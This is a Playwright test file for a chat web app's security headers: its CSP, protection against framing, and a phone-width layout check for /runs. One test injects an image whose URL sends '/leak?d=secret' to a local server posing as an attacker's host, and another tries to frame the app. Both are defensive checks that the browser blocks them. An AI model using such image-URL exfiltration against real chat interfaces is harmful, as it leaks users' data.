/**
 * The security headers in a real browser: the app hydrates and streams under its CSP with
 * no violation, an image from another host is refused (the exfiltration channel of a
 * Markdown image), the app cannot be framed, and /runs is usable on a 390 px phone.
 */
import { createServer, type Server } from 'node:http'
import { expect, test, type Page } from '@playwright/test'
import { ChatPage } from './pages/chat'
import { nonce } from './helpers/upstream'

/** Records every CSP violation the page reports, from before its first script runs. */
async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    const seen: string[] = []
    ;(window as unknown as { __violations: string[] }).__violations = seen
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber} ${event.sample}`),
    )
  })
  return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)
}

/** A server standing in for an attacker's host: counts what reaches it. */
async function trap(): Promise<{ server: Server; hits: string[]; url: string }> {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { server, hits, url: `http://127.0.0.1:${(server.address() as { port: number }).port}` }
}

test('the app hydrates and streams under its CSP with no violation, and refuses an image from another host', async ({ page }) => {
  const violations = await recordViolations(page)
  const response = await page.goto('/')
  const csp = response!.headers()['content-security-policy']
  expect(csp).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'/)
  expect(csp).toContain("img-src 'self' data:")
  expect(response!.headers()['x-content-type-options']).toBe('nosniff')

  // Hydrated: the composer sends, the answer streams.
  const chat = new ChatPage(page)
  await chat.input.waitFor({ state: 'visible' })
  await chat.send(nonce('csp'))
  await chat.waitForStreaming(5)
  await chat.stopAndReadShown()
  expect(await violations()).toEqual([])

  // An answer's image pointing elsewhere would leak whatever its URL carries: never fetched.
  const attacker = await trap()
  try {
    await page.evaluate((url) => {
      const img = document.createElement('img')
      img.src = `${url}/leak?d=secret`
      document.body.append(img)
    }, attacker.url)
    await expect.poll(violations).toContainEqual(expect.stringMatching(/^img-src http:\/\/127\.0\.0\.1:\d+\/leak/))
    expect(attacker.hits).toEqual([])
  } finally {
    attacker.server.close()
  }
})

test('the app cannot be framed by another page', async ({ page, baseURL }) => {
  const framer = await trap() // any other origin will do as the framing page's host
  framer.server.removeAllListeners('request')
  framer.server.on('request', (_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(`<iframe id="victim" src="${baseURL}/" width="400" height="300"></iframe>`)
  })
  try {
    await page.goto(framer.url)
    const frame = page.frameLocator('#victim')
    // The frame loads nothing of the app: the browser refuses it (frame-ancestors 'none', X-Frame-Options: DENY).
    await expect(frame.getByTestId('composer-input')).toHaveCount(0)
    await expect
      .poll(() =>
        page
          .frames()
          .find((f) => f !== page.mainFrame())
          ?.url(),
      )
      .not.toBe(`${baseURL}/`)
  } finally {
    framer.server.close()
  }
})

test('/runs is usable at 390 px: every column of a run is on screen, and a run opens', async ({ browser }) => {
  const context = await browser.newContext({ viewport: { width: 390, height: 844 } })
  const page = await context.newPage()
  const chat = new ChatPage(page)
  await chat.goto('/')
  await chat.send(nonce('phone'))
  await chat.waitForStreaming(5)
  await chat.stopAndReadShown()
  await chat.waitForStatus('stopped')

  await page.goto('/runs')
  const row = page.getByTestId('run-row').first()
  await expect(row).toHaveAttribute('data-status', 'CANCELLED')
  for (const cell of await row.locator('td').all()) {
    if (!(await cell.isVisible())) continue
    const box = (await cell.boundingBox())!
    expect(box.x + box.width, await cell.innerText()).toBeLessThanOrEqual(390)
  }
  await expect(row.getByRole('link', { name: 'open' })).toBeInViewport()
  await row.getByRole('button').first().click()
  await expect(page.getByTestId('run-detail').getByTestId('transition').first()).toBeVisible()
  // An end user's view: no worker, no resolve buttons.
  await expect(page.getByTestId('run-worker')).toHaveCount(0)
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390)
  await page.screenshot({ path: 'test-results/runs-390.png' })
  await context.close()
})
